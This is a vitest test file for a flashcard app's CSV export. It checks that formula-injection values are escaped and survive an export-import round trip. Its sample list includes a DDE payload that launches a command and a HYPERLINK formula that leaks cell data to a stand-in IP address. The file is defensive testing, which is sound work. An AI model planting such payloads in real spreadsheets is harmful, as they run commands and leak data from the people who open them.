// Formula injection: CSV export must never write a cell that a spreadsheet
// runs, and export → import must give back the original text.
import Papa from 'papaparse';
import { afterEach, describe, expect, it } from 'vitest';
import { Collection } from '../../electron/core/collection.js';
import { databaseOf } from '../helpers/collection-database.js';
import { csvField } from '../../electron/core/exporting/csv-writer.js';
import { exportDeck } from '../../electron/core/exporting/export-deck.js';
import { escapeFormula, unescapeFormula } from '../../electron/core/text/spreadsheet-formulas.js';

const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://192.0.2.5/?leak="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
  "'plain apostrophe",
  'plain text',
];

const collections: Collection[] = [];
afterEach(() => {
  for (const c of collections.splice(0)) c.close();
});
const open = () => {
  const c = Collection.open({ file: ':memory:' });
  collections.push(c);
  return c;
};

describe('CSV export escapes formula cells', () => {
  it.each(hostile)('escapes %j so no cell starts like a formula, and reads it back', (text) => {
    const escaped = escapeFormula(text);
    expect(escaped).not.toMatch(/^[=+\-@\t\r]/);
    expect(unescapeFormula(escaped)).toBe(text);
  });

  it('writes no cell a spreadsheet would run, and export → import gives back every text', () => {
    const c = open();
    const deck = {
      format: 'demarc-deck/1',
      id: 'formulas',
      title: 'Formulas',
      serviceType: 'practice',
      description: 'x',
      cards: hostile.map((text, i) => ({ id: `c${i}`, kind: 'basic', front: `${text} ${i}`, back: text, source: 'x.txt', tags: i === 3 ? ['-tag'] : [] })),
    };
    c.runImport('formulas.json', Buffer.from(JSON.stringify(deck)), {});
    const csv = exportDeck(databaseOf(c), 'deck-formulas', 'csv').text;
    const rows = Papa.parse<string[]>(csv.split('\n').filter((line) => !line.startsWith('#')).join('\n'), { skipEmptyLines: true }).data;
    expect(rows).toHaveLength(hostile.length);
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // The leading tab stays in the file (it was trimmed away before), behind the apostrophe.
    expect(csvField('\t=1+1')).toBe("'\t=1+1");

    const other = open();
    other.runImport('formulas.csv', Buffer.from(csv), {});
    const back = (databaseOf(other).prepare('SELECT content, tags FROM cards ORDER BY position').all() as { content: string; tags: string }[]).map((r) => ({
      ...(JSON.parse(r.content) as { front: string; back: string }),
      tags: r.tags,
    }));
    expect(back.map((card) => [card.front, card.back])).toEqual(
      // Carriage returns become line feeds on import, as in any CSV cell.
      hostile.map((text, i) => [`${text} ${i}`.replace(/\r/g, '\n'), text.replace(/\r/g, '\n')]),
    );
    expect(back[3]!.tags).toBe('-tag');
  });
});
